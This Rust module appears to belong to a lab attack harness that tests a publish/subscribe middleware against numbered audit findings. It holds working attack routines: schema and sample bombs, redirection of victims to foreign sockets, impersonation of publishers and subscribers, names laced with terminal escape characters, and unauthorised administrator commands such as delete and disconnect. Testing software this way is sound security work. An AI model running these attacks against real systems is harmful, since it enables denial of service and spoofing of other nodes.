//! A node that lies in its document and in its requests.

use super::super::attacker::Attacker;
use super::super::client::{Frame, HANDSHAKE, Link, Listener, kind, opening, packed};
use super::super::pair::{LURES, TOPIC};
use super::{Asked, FLOW, FalsePeer};
use serde_json::{Value, json};
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::time::Duration;

/// A type of 400,000 parts, and samples of 60 kB, to a subscriber with a key (finding 3).
pub fn type_bomb(attacker: &mut Attacker) -> io::Result<()> {
    let units = vec!["unit"; 400_000];
    let bomb = json!({"struct": {"name": "Bomb", "fields": [
        {"name": "x", "schema": {"sequence": {"tuple": units}}}, {"name": "z", "schema": "u8"}]}});
    let deep = (0..120).fold(json!("u8"), |inner, _| json!({"sequence": inner}));
    let deep =
        json!({"struct": {"name": "Deep", "fields": [{"name": "x", "schema": deep}, {"name": "z", "schema": "u8"}]}});
    let small: Vec<Value> = (0..4000).map(|_| json!("unit")).collect();
    let small = json!({"struct": {"name": "Small", "fields": [
        {"name": "x", "schema": {"sequence": {"tuple": small}}}, {"name": "z", "schema": "u8"}]}});
    for (name, schema) in [("Bomb", bomb), ("Deep", deep), ("Small", small)].into_iter().cycle() {
        if !attacker.goes_on() {
            break;
        }
        attacker.node = format!("{:016x}", attacker.dice.bits());
        let mut false_peer = FalsePeer::start_with(attacker, &LURES[4..5], |document| {
            document["ports"]["1"]["type"] = json!({"name": name, "hash": 7, "schema": schema});
            document["ports"]["1"]["qos"]["key"] = json!(["z"]);
        })?;
        attacker.tried("types");
        let Some(Asked { mut stream, request }) = false_peer.asked(attacker, 2000) else { continue };
        stream.write_all(&packed(&false_peer.acceptance(&request)))?;
        // A sequence of 65,000 elements without bytes, each of which is a step for a reader of the field behind it.
        let sample = [&[0, 1, 0, 0][..], &65_000u32.to_le_bytes(), &[7; 60_000]].concat();
        for sequence in 0..20 {
            attacker.tried("samples");
            if stream.write_all(&Frame::message(FLOW, sequence, u64::from(sequence) + 1, &sample).bytes()).is_err() {
                break;
            }
        }
        attacker.pause(300);
    }
    Ok(())
}

/// Ports at thousands of foreign addresses, and at foreign sockets (finding 10): counts connections there.
pub fn elsewhere(attacker: &mut Attacker) -> io::Result<()> {
    let third = TcpListener::bind((Ipv4Addr::new(127, 0, 0, 77), 0))?;
    third.set_nonblocking(true)?;
    let at = third.local_addr()?;
    let bait = std::env::temp_dir().join(format!("thalweg-lab-bait-{}", std::process::id()));
    let foreign = std::os::unix::net::UnixListener::bind(&bait)?;
    foreign.set_nonblocking(true)?;
    let mut visits = 0u64;
    while attacker.goes_on() {
        attacker.node = format!("{:016x}", attacker.dice.bits());
        let false_peer = FalsePeer::start_with(attacker, &LURES[..4], |document| {
            document["addresses"] = vec![json!(at); 64].into();
            document["socket"] = json!(bait);
            let port = document["ports"]["1"].clone();
            for index in 10..500 {
                let mut port = port.clone();
                port["name"] = format!("/false_peer/{index}").into();
                document["ports"][index.to_string()] = port;
            }
        });
        attacker.pause(100);
        while third.accept().is_ok() || foreign.accept().is_ok() {
            visits += 1;
        }
        drop(false_peer);
    }
    attacker.answer(&format!("{visits} connections to a third party"));
    let _ = std::fs::remove_file(&bait);
    Ok(())
}

/// The publisher's own id, with a higher revision, and then all requests that a node may send for itself (finding 8).
pub fn another(attacker: &mut Attacker) -> io::Result<()> {
    let victim = attacker.victim("publisher")?;
    let (mut document, node) =
        (victim.document.clone(), victim.document["node"].as_str().unwrap_or_default().to_owned());
    let listener = TcpListener::bind((super::FROM, 0))?;
    listener.set_nonblocking(true)?;
    document["addresses"] = json!([listener.local_addr()?]);
    document["socket"] = Value::Null;
    let mut revision = 1u64 << 40;
    let listeners = [attacker.victim("subscriber")?.tcp.clone(), attacker.victim("relay")?.tcp.clone()];
    let mut links: Vec<Link> = Vec::new();
    while attacker.goes_on() {
        revision += 2;
        document["revision"] = revision.into();
        for incarnation in [document["incarnation"].clone(), json!(0), json!(u64::MAX)] {
            document["incarnation"] = incarnation;
            for listener in &listeners {
                attacker.tried("documents in another's name");
                let Ok(mut link) = Link::open(listener, &attacker.task.realm, &node) else { continue };
                let _ = link.say(kind::DOCUMENT, document.to_string().as_bytes());
                let gone = json!({"base": revision, "revision": revision + 1, "removed": [1]});
                let _ = link.say(kind::CHANGE, gone.to_string().as_bytes());
                links.push(link);
            }
        }
        if links.len() > 60 {
            links.drain(..30);
        }
        while let Ok((mut stream, _)) = listener.accept() {
            attacker.answer("was asked in another's place");
            stream.set_read_timeout(Some(Duration::from_millis(50)))?;
            let _ = stream.read(&mut [0; 4096]);
        }
        attacker.pause(20);
    }
    Ok(())
}

/// Names with control characters, as long as possible, in everything that is shown to people (finding 10).
pub fn names(attacker: &mut Attacker) -> io::Result<()> {
    let ugly = [
        "/\u{1b}]0;pwned\u{7}",
        "/\u{1b}[2J\u{1b}[H",
        "/a\nb",
        "/\u{202e}txt",
        "/\u{9b}31m",
        "//",
        "",
        "/*/**",
        "nameless",
    ];
    let listener = attacker.victim("publisher")?.tcp.clone();
    while attacker.goes_on() {
        let name = ugly[attacker.dice.below(9) as usize].repeat(1 + attacker.dice.below(40) as usize);
        let mut request = attacker.request("tcp")?;
        request["subscriber"]["name"] = name.clone().into();
        if let Ok((socket, _)) = attacker.subscribe(&listener, &request) {
            if name.chars().any(char::is_control) {
                attacker.answer("accepted a name with control characters");
            }
            drop(socket);
        }
        attacker.node = format!("{:016x}", attacker.dice.bits());
        let false_peer = FalsePeer::start_with(attacker, &LURES[..1], |document| {
            document["name"] = name.clone().into();
            document["ports"]["1"]["name"] = name.into();
        });
        attacker.pause(5);
        drop(false_peer);
    }
    Ok(())
}

/// All changes by an administrator, over TCP (finding 8): counts those that were not refused.
pub fn administers(attacker: &mut Attacker) -> io::Result<()> {
    let requests = [
        json!({"verb": "disconnect", "publisher": "/publisher", "subscriber": "/subscriber/tcp"}),
        json!({"verb": "set", "port": "/publisher", "other": "/publisher", "changes": {"sched": {"set": {"policy": {"fifo": 99}}}}}),
        json!({"verb": "keep", "publisher": "/publisher", "subscriber": "/subscriber/udp", "carrier": "tcp"}),
        json!({"verb": "remember", "port": "/publisher", "other": "/subscriber/tcp", "settings": {}}),
        json!({"verb": "scale", "publisher": "/publisher", "subscriber": "/subscriber/tcp", "changes": {"selection": {"set": "1/1000"}}}),
        json!({"verb": "command", "port": "/subscriber/tcp", "text": "atch in (type throttle) (period_ms 86400000)"}),
        json!({"verb": "command", "port": "/subscriber/tcp", "text": "del /publisher"}),
        json!({"verb": "connect", "publisher": "/publisher", "subscriber": "/lured/tcp", "carrier": null}),
    ];
    let listeners: Vec<Listener> = attacker.listeners(false);
    let (realm, node) = (attacker.task.realm.clone(), attacker.node.clone());
    while attacker.goes_on() {
        for listener in &listeners {
            let Ok(mut link) = Link::open(listener, &realm, &node) else { continue };
            for (number, request) in requests.iter().enumerate() {
                attacker.tried("changes");
                let _ = link.call(number as u64, request);
                let Ok(answer) = link.hear_of(kind::ANSWER) else { break };
                let text =
                    String::from_utf8_lossy(&answer[8.min(answer.len())..]).chars().take(200).collect::<String>();
                attacker.answer(&format!("{}: {text}", request["verb"].as_str().unwrap_or_default()));
            }
        }
        attacker.pause(200);
    }
    Ok(())
}

/// Requests in the subscriber's own name, which would end its channel if a second one ended the first.
pub fn in_its_place(attacker: &mut Attacker) -> io::Result<()> {
    let listener = attacker.victim("publisher")?.tcp.clone();
    let subscriber = attacker.victim("subscriber")?;
    let ports = subscriber.document["ports"].as_object().into_iter().flatten();
    let ports: Vec<(String, Value)> =
        ports.filter(|(_, port)| port["topic"] == TOPIC).map(|(id, port)| (id.clone(), port.clone())).collect();
    let node = subscriber.document["node"].clone();
    while attacker.goes_on() {
        for (id, port) in &ports {
            let carrier = port["carriers"][0].as_str().unwrap_or("tcp").to_owned();
            let mut request = attacker.request(&carrier)?;
            request["node"] = node.clone();
            request["port"] = id.parse::<u64>().unwrap_or(1).into();
            request["subscriber"] = port.clone();
            request["moves"] = (attacker.dice.below(2) == 0).into();
            request["parameters"]["udp_port"] = 9.into();
            attacker.tried("requests in another's name");
            let Ok(mut socket) = listener.open() else { continue };
            let _ = socket.write_all(&opening(HANDSHAKE, &request));
            if super::read_document(&mut socket).is_ok_and(|answer| answer["accepted"].is_object()) {
                attacker.answer("accepted in another's name");
            }
        }
        attacker.pause(20);
    }
    Ok(())
}
